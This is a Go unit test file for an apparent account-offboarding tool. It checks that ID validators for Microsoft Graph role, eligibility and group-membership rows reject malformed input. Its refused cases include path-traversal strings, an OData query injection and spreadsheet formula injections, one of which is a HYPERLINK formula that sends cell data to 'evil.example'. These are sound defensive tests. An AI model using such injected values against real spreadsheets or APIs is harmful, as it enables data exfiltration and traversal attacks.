package graph

import (
	"testing"

	"github.com/offboard/offboard/job"
)

func TestCheckID(t *testing.T) {
	const (
		group = "8f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f"
		role  = "62e90394-69f5-4237-9190-012177145e10"
	)
	const (
		dir, elig           = job.KindDirectoryRole, job.KindDirectoryRoleEligibility
		member, owner       = job.KindGroupMember, job.KindGroupOwner
		eligMember, actOwnr = job.KindGroupEligibleMember, job.KindGroupActiveOwner
	)
	tests := []struct {
		src  job.IDChecker
		kind string
		id   string
		ok   bool
	}{
		{DirectoryRoles{}, dir, "lAPpYvVpN0KRkAEhdxReEJC2sEqbR_9Hr48lds9SGHI-1", true},
		{DirectoryRoles{}, dir, "-lAPpYvVpN0KRkAEhdxReE", true},
		{DirectoryRoles{}, dir, group, true},
		{Eligibilities{}, elig, "a1b2c3_d-4", true},
		{Memberships{}, member, group, true},
		{Memberships{}, job.KindAzureGroupMember, group, true},
		{Memberships{}, owner, group + "/owner", true},
		{Memberships{}, eligMember, group + "/eligible-member", true},
		{Memberships{}, actOwnr, group + "/active-owner", true},
		{DirectoryRoles{}, dir, "..", false},
		{DirectoryRoles{}, dir, ".", false},
		{DirectoryRoles{}, dir, "", false},
		{DirectoryRoles{}, dir, "x/../../users/y", false},
		{DirectoryRoles{}, dir, "x?$filter=1", false},
		{DirectoryRoles{}, dir, "x%2F..", false},
		{DirectoryRoles{}, dir, "x y", false},
		{Eligibilities{}, elig, "..", false},
		{Memberships{}, member, "..", false},
		{Memberships{}, member, "not-a-guid", false},
		{Memberships{}, member, "lAPpYvVpN0KRkAEhdxReEJC2sEqbR_9Hr48lds9SGHI-1", false},
		{Memberships{}, member, group + "/members", false},
		{Memberships{}, owner, group + "/owner/..", false},
		{Memberships{}, owner, "../owner", false},
		// The kind says what a row is; an id that says otherwise is
		// refused, and so is a kind of another source, or none.
		{Memberships{}, member, group + "/owner", false},
		{Memberships{}, owner, group, false},
		{Memberships{}, eligMember, group + "/active-member", false},
		{Memberships{}, dir, group, false},
		{Memberships{}, "", group, false},
		{DirectoryRoles{}, elig, "a1b2c3_d-4", false},
		{Eligibilities{}, "", "a1b2c3_d-4", false},
	}
	for _, tt := range tests {
		const principal = "0b01a6fe-d448-44d7-85ca-75ea712f3c51"
		a := job.Assignment{Kind: tt.kind, ID: tt.id, PrincipalID: principal}
		if _, ok := tt.src.(Memberships); !ok {
			a.RoleDefinitionID, a.Scope = role, "/"
		}
		if err := tt.src.CheckID(a); (err == nil) != tt.ok {
			t.Errorf("%T.CheckID(%s %q) = %v, want ok %v", tt.src, tt.kind, tt.id, err, tt.ok)
		}
	}
}

// TestCheckRoleIDs: a directory role assignment's or eligibility's role
// definition id is a GUID and its scope one Graph documents ("/",
// "/administrativeUnits/{id}", "/{id}"); a formula in either is refused
// with the row (issue 24, item 10).
func TestCheckRoleIDs(t *testing.T) {
	const (
		id   = "lAPpYvVpN0KRkAEhdxReEJC2sEqbR_9Hr48lds9SGHI-1"
		role = "62e90394-69f5-4237-9190-012177145e10"
		au   = "/administrativeUnits/0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f"
		app  = "/0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f"
	)
	tests := []struct {
		role, scope string
		ok          bool
	}{
		{role, "/", true},
		{role, au, true},
		{role, "/AdministrativeUnits/0F2C7D6E-1B4A-4C3E-9D8F-1A2B3C4D5E6F", true},
		{role, app, true},
		{`=HYPERLINK("http://evil.example/?"&A2,"Global Administrator")`, "/", false},
		{role, "=1+2", false},
		{"", "/", false},
		{role, "", false},
		{"Global Administrator", "/", false},
		{role + "/..", "/", false},
		{role, "/administrativeUnits/x", false},
		{role, "/administrativeUnits/", false},
		{role, au + "/..", false},
		{role, "//", false},
		{role, "/users/0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f", false},
		{role, "@SUM(1+1)", false},
	}
	for src, kind := range map[job.IDChecker]string{DirectoryRoles{}: job.KindDirectoryRole, Eligibilities{}: job.KindDirectoryRoleEligibility} {
		for _, tt := range tests {
			err := src.CheckID(job.Assignment{Kind: kind, ID: id, RoleDefinitionID: tt.role, Scope: tt.scope})
			if (err == nil) != tt.ok {
				t.Errorf("%T.CheckID(role %q, scope %q) = %v, want ok %v", src, tt.role, tt.scope, err, tt.ok)
			}
		}
	}
}
